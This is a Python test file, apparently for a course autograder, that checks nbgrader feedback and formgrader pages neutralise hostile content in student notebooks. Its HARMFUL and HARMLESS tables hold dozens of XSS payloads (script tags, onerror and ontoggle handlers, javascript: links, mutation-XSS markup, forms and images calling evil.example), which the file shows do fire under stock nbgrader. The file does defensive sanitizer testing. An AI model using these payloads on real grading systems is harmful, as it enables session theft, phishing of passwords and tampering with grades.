"""The pages that show what students wrote, rendered by nbgrader with our configuration: nothing in them runs, nothing is lost."""

import contextlib
import json
import re
import shutil
import sys
import time
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateAssignment, GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
from traitlets.config import Config

from autograder.feedback import as_markdown, clean_html, mathml, render_markdown
from autograder.flags import printable
from autograder.lessons import all_lessons
from autograder.notebook import Card
from autograder.record import CheckResult

sys.path.append(str(Path(__file__).parents[1] / "tools"))
from course import ROOT, run

LESSON = "02-convolution"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def shows(data, metadata=None):
    """A cell that displayed something."""
    return new_code_cell("show()", outputs=[new_output("display_data", data=data, metadata=metadata or {})])


def wrote(text, **options):
    return new_markdown_cell(text, **options)


# What a student put into the notebook: a cell, with WORD where the harm is done. Every one of these does harm on nbgrader's own pages.
HARMFUL = {
    "a script in a text": wrote("<script>WORD()</script>"),
    "a script in a paragraph": wrote("I think that <script src='//evil.example/WORD.js'></script> it is so."),
    "a script in capitals": wrote("<ScRiPt>WORD()</ScRiPt >"),
    "a script that is never closed": wrote("<div><script>WORD()"),
    "an image that fails": wrote('<img src=x onerror="WORD()">'),
    "an image that fails, with slashes": wrote("<img/src='x'/onerror=WORD()>"),
    "a handler on a harmless tag": wrote('<b onmouseover="WORD()">bold</b>'),
    "a handler that needs nobody": wrote("<details open ontoggle=WORD()>"),
    "a style that covers the page": wrote('<div style="position:fixed;inset:0" title="WORD">Score: 14 / 14</div>'),
    "a style that fetches": wrote('<p style="color:red;background:url(//evil.example/WORD)">red</p>'),
    "a style sheet": wrote("<style>@import url(//evil.example/WORD.css)</style>"),
    "a style sheet that hides the score": wrote("<style>.score{display:none}.WORD{}</style>"),
    "a link to a style sheet": wrote('<link rel="stylesheet" href="//evil.example/WORD">'),
    "another page in a frame": wrote('<iframe src="https://evil.example/WORD"></iframe>'),
    "a page of their own in a frame": wrote('<iframe srcdoc="&lt;script&gt;WORD()&lt;/script&gt;"></iframe>'),
    "an object": wrote('<object data="data:text/html,WORD"></object>'),
    "an embedded document": wrote('<embed src="data:image/svg+xml,WORD">'),
    "a form": wrote('<form action="https://evil.example/WORD"><input name=password></form>'),
    "a button": wrote('<button formaction="javascript:WORD()">Full credit</button>'),
    "a page that leads elsewhere": wrote('<meta http-equiv="refresh" content="0;url=https://evil.example/WORD">'),
    "another base for all links": wrote('<base href="https://evil.example/WORD/">'),
    "a link that runs": wrote('<a href="javascript:WORD()">my source</a>'),
    "a link that runs, in Markdown": wrote("[my source](javascript:WORD\\(\\))"),
    "a link that runs, in letters by number": wrote('<a href="&#106;avascript:WORD()">my source</a>'),
    "a link that runs, with a line feed": wrote('<a href="java&#10;script:WORD()">my source</a>'),
    "a link that nbconvert makes one that runs": wrote('<a href="files/javascript:WORD()">my source</a>'),
    "a link to a page of their own": wrote('<a href="data:text/html,WORD">my source</a>'),
    "a link to a file handed in": wrote("[my source](WORD.html)"),
    "an image from elsewhere": wrote('<img src="https://evil.example/WORD.png">'),
    "an image from elsewhere, in Markdown": wrote("![](https://evil.example/WORD.png)"),
    "an image from elsewhere, twice as sharp": wrote(f'<img src="data:image/png;base64,{PNG}" srcset="https://evil.example/WORD 2x">'),
    "a film": wrote('<video poster="https://evil.example/WORD" autoplay></video>'),
    "a drawing with a script": wrote("<svg><script>WORD()</script></svg>"),
    "a drawing with a handler": wrote('<svg onload="WORD()"></svg>'),
    "a drawing that fetches": wrote('<svg><image href="https://evil.example/WORD"/></svg>'),
    "a formula with a link": wrote('<math><mtext href="javascript:WORD()">x</mtext></math>'),
    "markup that changes when it is read again": wrote(
        "<math><mtext><table><mglyph><style><img src=x onerror=WORD()></style></table></math>"
    ),
    "a name that the page uses": wrote('<div id="WORD"></div>'),
    "a class that the page uses": wrote('<div class="panel-heading WORD">Score: 14 / 14</div>'),
    "a title": wrote('<p title="WORD">text</p>'),
    "HTML as an output": shows({"text/html": "<script>WORD()</script>"}),
    "HTML with a handler as an output": shows({"text/html": "<p onclick=WORD()>click</p>"}),
    "JavaScript as an output": shows({"application/javascript": "WORD()"}),
    "Markdown as an output": shows({"text/markdown": "<script>WORD()</script>"}),
    "Markdown with an image as an output": shows({"text/markdown": "![](//evil.example/WORD)"}),
    "a diagram as an output": shows({"text/markdown": "```mermaid\n<img src=x onerror=WORD()>\n```"}),
    "an image with a width that is none": shows({"image/png": PNG}, {"image/png": {"width": "1 onerror=WORD()"}}),
    "an image with a height that is none": shows({"image/jpeg": PNG}, {"image/jpeg": {"height": "1 onerror=WORD()"}}),
    "an image with a file of its own": shows({"image/png": PNG}, {"filenames": {"image/png": "https://evil.example/WORD.png"}}),
    "an image attached that is a page": wrote("![](attachment:a)", attachments={"a": {"text/html": "WORD"}}),
    "an image attached with another tag": wrote("![](attachment:a)", attachments={"a": {"image/png": f'{PNG}"onerror="WORD()'}}),
}
# These do no harm there, or none that is as plain, and shall do none here.
HARMLESS = {
    "a tag in a comment that is none": wrote("<!--><img src=x onerror=WORD()>-->"),
    "a section that is none": wrote("<![CDATA[<img src=x onerror=WORD()>]]>"),
    "a raw cell": new_raw_cell("<script>WORD()</script>", metadata={"raw_mimetype": "text/html"}),
    "a raw cell without a type": new_raw_cell("<img src=https://evil.example/WORD>"),
    "HTML in a frame as an output": shows({"text/html": "WORD"}, {"text/html": {"isolated": True}}),
    "a formula with a script": wrote(r"$\text{<script>WORD()</script>}$ and $$\href{javascript:WORD()}{x}$$ and $\style{x}{WORD}$"),
    "a formula that is a tag": wrote("$<img src=x onerror=WORD()>$ \\begin{a}<script>WORD()</script>\\end{a}"),
    "a formula in an attribute": wrote('<img alt="$x$ WORD"> <img alt="\n\n$$x$$\n\n onerror=WORD()">'),
    "LaTeX as an output": shows({"text/latex": "$\\href{javascript:WORD()}{x}$<script>WORD()</script>"}),
    "a drawing as an output": shows({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='WORD()'/>"}),
    "a widget": shows({"application/vnd.jupyter.widget-view+json": {"model_id": "WORD"}, "text/plain": "WORD"}),
    "an unknown kind of output": shows({"application/x-evil+html": "<script>WORD()</script>", "text/plain": "WORD"}),
    "a plain text": shows({"text/plain": "<script>WORD()</script>"}),
    "a print": new_code_cell("p()", outputs=[new_output("stream", text="<script>WORD()</script>\x1b[31m<img src=//x>\x1b]8;;//x\x07")]),
    "an error": new_code_cell(
        "1 / 0", outputs=[new_output("error", ename="<b>", evalue="<i>WORD", traceback=["\x1b[0;31m<script>WORD()</script>"])]
    ),
    "code": new_code_cell("# <script>WORD()</script>\nx = '<img src=x onerror=WORD()>'"),
    "names of cells": new_code_cell("x", id="a-b_c", metadata={"tags": ['"><script>WORD()</script>'], "title": "<script>WORD()"}),
    "an attachment that is not there": wrote("![WORD](attachment:b)"),
    "quotations in quotations": wrote(">" * 5000 + "WORD"),
    "tags in tags": shows({"text/html": "<div>" * 3900 + "WORD"}),
    "a link that is fine": wrote("[WORD](https://example.org/a?b=c&d=e) <https://example.org>"),
}
COMMENT = 'Well: <script>WORD()</script> [x](javascript:WORD) <img src="//evil.example/WORD" onerror=WORD()> $x_i$'


def marked(cell, word):
    """The cell with a word of its own in the place of WORD."""
    return nbformat.from_dict(json.loads(json.dumps(cell).replace("WORD", word)))


WORDS = {name: f"word{number}x" for number, name in enumerate([*HARMFUL, *HARMLESS], 1)}


def words(text):
    return frozenset(text.split())


class Page(HTMLParser):
    """What there is in a page that might run, fetch, or pass itself off as a part of the page."""

    ELEMENTS = words("""html head title body main div p a b i u s em strong small span code pre kbd h1 h2 h3 h4 h5 h6 hr br ul ol li dl dt
        dd table thead tbody tr th td blockquote details summary sub sup img del math mrow mi mn mo msub msup msubsup msqrt mroot mfrac
        mtext mspace mover munder munderover mstyle mtable mtr mtd""")
    ATTRIBUTES = words("""alt class colspan id lang name open rowspan start accent columnalign display displaystyle fence form maxsize
        minsize scriptlevel stretchy tabindex width height xmlns""")
    VALUES = {  # noqa: RUF012
        "href": r"https?://\S+|mailto:\S+|#[\w-]*",
        "src": r"data:image/(png|jpeg);base64,[\w+/=]*",
        "style": r"((color|background-color|border-left|padding|margin|margin-top|text-align|font-weight): ?[\w#.% ]+;? ?)*",
    }

    def __init__(self, text):
        super().__init__()
        self.dangers = Counter()
        self.tags = Counter()
        self.text = ""
        self._inside = ""  # of a script or a style sheet
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags[tag] += 1
        self._inside = tag if tag in ("script", "style") else ""
        if tag not in self.ELEMENTS:
            self.dangers[f"<{tag} {attributes}>"] += 1
        for name, value in attributes:
            if name not in self.ATTRIBUTES and not re.fullmatch(self.VALUES.get(name, "(?!)"), value or ""):
                self.dangers[f"<{tag}> has {name}={value!r}"] += 1
            elif name in ("id", "class", "name") and re.search(r"word\d+x", value):
                self.dangers[f"<{tag}> is called {name}={value!r}"] += 1

    def handle_endtag(self, tag):
        self._inside = ""

    def handle_data(self, data):
        if self._inside:
            self.dangers[f"<{self._inside}> with {data}"] += 1
        else:
            self.text += data


def hand_in(folder, student, cells, metadata=None):
    """Put a graded notebook, and its rows in the gradebook, where nbgrader looks for them."""
    notebook = nbformat.read(ROOT / "lessons" / LESSON / f"{LESSON}.ipynb", as_version=4)
    notebook.cells += cells
    notebook.metadata.update(metadata or {})
    target = folder / "autograded" / student / LESSON
    target.mkdir(parents=True)
    nbformat.write(notebook, target / f"{LESSON}.ipynb")
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
        gradebook.add_student(student)
        gradebook.add_submission(LESSON, student)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course with graded submissions: an innocent one, one with all that is harmful, one with everything above in it."""
    folder = tmp_path_factory.mktemp("course")
    shutil.copy(ROOT / "nbgrader_config.py", folder)
    shutil.copytree(ROOT / "lessons" / LESSON, folder / "lessons" / LESSON)
    with contextlib.chdir(folder):
        run(GenerateAssignment, LESSON, folder)
        hand_in(folder, "ada", [])
        harmful = [marked(cell, WORDS[name]) for name, cell in HARMFUL.items()]
        cells = harmful + [marked(cell, WORDS[name]) for name, cell in HARMLESS.items()]
        hand_in(folder, "mal", harmful)
        evil = '"><script>word0x()</script>'
        widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": evil}}
        names = {"title": evil, "language": evil, "authors": [evil], "widgets": widgets, "language_info": {"name": evil}}
        hand_in(folder, "eve", cells, names | {"kernelspec": {"name": evil, "display_name": evil, "language": evil}})
        with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
            gradebook.find_comment("relu", LESSON, LESSON, "eve").auto_comment = COMMENT.replace("WORD", "word0x")
            gradebook.db.commit()
        yield folder


@pytest.fixture(scope="module")
def pages(course):
    """The feedback of each, as nbgrader makes it here."""
    run(GenerateFeedback, LESSON, course)
    return {student: (course / "feedback" / student / LESSON / f"{LESSON}.html").read_text() for student in ("ada", "eve")}


@pytest.fixture(scope="module")
def stock_pages(course):
    """The feedback of two, as nbgrader makes it without our configuration."""
    config = Config()
    config.CourseDirectory.root = str(course)
    config.CourseDirectory.feedback_directory = "stock"
    config.CourseDirectory.source_directory = "lessons"
    GenerateFeedback(coursedir=CourseDirectory(config=config, assignment_id=LESSON, student_id="[am][da][al]"), config=config).start()
    return {student: (course / "stock" / student / LESSON / f"{LESSON}.html").read_text() for student in ("ada", "mal")}


@pytest.fixture(scope="module")
def formgrader(course):
    """The pages that formgrader shows of both; those of nbgrader alone with `stock=True`."""

    def shown(student, stock=False):
        app = FormgradeExtension()
        if stock:
            app.update_config(app.build_extra_config())
        else:
            app.initialize([], root=str(course))
        about = {"base_url": "", "notebook_id": LESSON, "assignment_id": LESSON, "submission_id": "1", "index": 0, "total": 2}
        path = course / "autograded" / student / LESSON / f"{LESSON}.ipynb"
        return HTMLExporter(config=app.config).from_filename(str(path), resources=about | {"notebook_path": "", "student": student})[0]

    return shown


def added(page, innocent):
    """The dangers in a page that are not in another."""
    return Page(page).dangers - Page(innocent).dangers


def test_feedback_without_anything_of_a_students_runs_nothing_and_fetches_nothing(pages):
    page = Page(pages["ada"])
    sheets = [danger for danger in page.dangers if danger.startswith(("<style", "<meta"))]
    assert page.dangers.keys() == set(sheets)
    assert not [sheet for sheet in sheets if re.search(r"url\(['\"]?(https?:|//)|@import", sheet)]
    assert "default-src 'none'" in pages["ada"][: pages["ada"].index("<style")]


def test_nothing_of_a_students_runs_or_fetches_in_feedback(pages):
    assert not added(pages["eve"], pages["ada"])


def test_nothing_of_a_students_runs_or_fetches_in_formgrader(formgrader):
    assert not added(formgrader("eve"), formgrader("ada"))


def test_formgrader_asks_no_other_computer_for_anything(formgrader):
    assert not re.search(r"""(src|href)=["']?(https?:)?//(?!(en\.wikipedia|doi|www|arxiv))""", formgrader("ada"))
    assert "MathJax" not in formgrader("ada") and "MathJax" in formgrader("ada", stock=True)


@pytest.mark.parametrize("name", HARMFUL)
def test_that_is_no_matter_of_course(name, stock_pages):
    """What is in the bank does its harm where our configuration is not, so the tests above can fail."""
    assert any(WORDS[name] in danger for danger in stock_dangers(stock_pages)), name


_found = {}


def stock_dangers(stock_pages):
    if not _found:
        _found.update(added(stock_pages["mal"], stock_pages["ada"]))
    return _found


READABLE = [
    "a plain text",
    "a print",
    "an error",
    "code",
    "an attachment that is not there",
    "quotations in quotations",
    "a link that is fine",
]


@pytest.mark.parametrize("name", READABLE)
def test_what_students_wrote_can_be_read(name, pages):
    assert WORDS[name] in Page(pages["eve"]).text


def test_comments_are_shown_without_what_is_in_them(pages):
    shown = re.search(r"<b>Comments:</b>(.*?)</div>", pages["eve"], re.DOTALL)[1]
    assert Page(shown).tags.keys() == {"a", "img", "math", "mrow", "msub", "mi", "p"} and "word0x" not in shown


def test_the_courses_own_prose_keeps_its_form(pages):
    page = Page(pages["ada"])
    assert page.tags["details"] == page.tags["summary"] > 10
    assert page.tags["table"] >= 2 and page.tags["math"] > 30 and "$" not in page.text.replace("\\$", "")


@pytest.mark.parametrize("lesson", all_lessons().values(), ids=all_lessons())
def test_every_formula_of_the_course_becomes_mathml(lesson):
    prose = ["".join(cell["source"]) for cell in lesson.notebook["cells"] if cell["cell_type"] == "markdown"]
    rendered = [(text, render_markdown(text)) for text in prose if "$" in text]
    assert rendered
    for text, page in rendered:
        formulas = len(re.findall(r"\$\$.+?\$\$|\$[^$]+\$", re.sub(r"`[^`]*`", "", text), re.DOTALL))
        assert page.count("<math") == formulas and "\\" not in re.sub(r"<(code|pre)>.*?</\1>", "", page, flags=re.DOTALL), text


def test_result_cards_keep_their_form():
    result = CheckResult(id="relu", points=0.5, max_points=1, status="partial", message="First line.\n1 < 2 & 3")
    card = Card(result, printed="<b>printed</b>")._repr_html_()
    cleaned = clean_html(card)
    assert Page(cleaned).tags == Page(card).tags and Page(cleaned).text == Page(card).text and not Page(cleaned).dangers
    styles = re.findall("style=['\"]([^'\"]*)", card)
    assert [re.sub("[ ;]", "", style) for style in re.findall('style="([^"]*)', cleaned)] == [re.sub("[ ;]", "", style) for style in styles]


def test_figures_are_shown(tmp_path):
    cleaned = clean_html(f'<img src="data:image/png;base64,{PNG}" alt="A seven" width="300" onerror="x()">')
    assert cleaned == f'<img src="data:image/png;base64,{PNG}" alt="A seven" width="300">'


@pytest.mark.parametrize(
    "source",
    ["[" * 10**6, "<div>" * 10**5, "<style>" * 3999 + "x" * 10**5, "\\\\[" * 2600, "> " * 4000, "$" + "{" * 900 + "$"],
    ids=lambda s: s[:7],
)
def test_what_is_made_to_take_for_ever_takes_a_moment(source):
    started = time.process_time()
    render_markdown(source)
    clean_html(source)
    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    "tex", [r"\text{<script>x()</script>}", r"\href{javascript:x()}{y}", r"\style{position:fixed}{y}", r"\color{red\"x=\"}{y}"]
)
def test_formulas_hold_nothing_but_formulas(tex):
    assert not Page(mathml(tex)).dangers


@pytest.mark.parametrize("tex", ["{", r"\frac", "%", "^^", r"\def\a{\a\a}\a", "x" * 2000])
def test_what_is_no_formula_is_shown_as_it_is(tex):
    assert mathml(tex) == f"<code>{tex}</code>"


FRAGMENTS = [
    *words(r"""\begin{a} \end{a} http://x.y HTTPS:// www.a.b &lt; javascript: <script> a_b ** __ $$ \[ a@b.c ``` ~~~ 1. 2) - + * # ### > |
    |- : [a]: ][ ]( ![ <!-- --- ==="""),
    "\x1b[31m",
    "\u202e",
    "\0",
]


@given(st.lists(st.sampled_from([*FRAGMENTS, " ", "\n", "  \n    ", "\t", "a", "1"]), max_size=30).map("".join) | st.text())
@example("You returned [a, b](c), not __x__ * 2: $5 < 6 & 7 | 8")
def test_comments_say_what_was_said_whatever_it_was(text):
    page = Page(render_markdown(as_markdown(text)))
    said = [" ".join(printable(line).split()) for line in text.splitlines()]
    assert page.tags.keys() <= {"p"} and not page.dangers
    assert [line for line in page.text.split("\n") if line] == [line for line in said if line]


def test_comments_can_be_read_as_they_are():
    said = "correlate2d(image, kernel): 3 of 4 values differ, first at [0, 1]. The weight at [a, b] lies on [i + a, j + b]: see my_kernel!"
    assert as_markdown(said) == said
